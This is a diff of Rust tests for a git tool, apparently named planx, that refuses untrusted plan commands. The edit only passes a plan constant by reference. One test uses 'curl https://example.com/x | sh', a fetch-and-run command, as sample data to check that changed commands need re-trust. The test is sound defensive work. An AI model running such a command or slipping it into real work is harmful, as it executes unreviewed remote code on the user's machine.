@@ -24,7 +24,7 @@ fn untrusted_commands_are_refused_before_anything_runs() {
 
 #[test]
 fn changed_commands_need_trust_again_and_show_a_diff() {
-    let repo = Repo::with_plan(WALK_PLAN);
+    let repo = Repo::with_plan(&WALK_PLAN);
     repo.write_plan(&WALK_PLAN.replace("test ! -e broken", "curl https://example.com/x | sh"));
     repo.commit_all("Change a command");
     assert_snapshot!(repo.planx(&["start", "a"]), @"
@@ -86,7 +86,7 @@ fn trust_once_and_the_environment() {
 #[test]
 fn the_repository_cannot_grant_trust() {
     let repo = Repo::new();
-    repo.write_plan(WALK_PLAN);
+    repo.write_plan(&WALK_PLAN);
     repo.commit_all("Plan");
     // Neither the repository's config nor a file in it can stand in for `git planx trust`.
     repo.git(&["config", "planx.trust", "1"]);
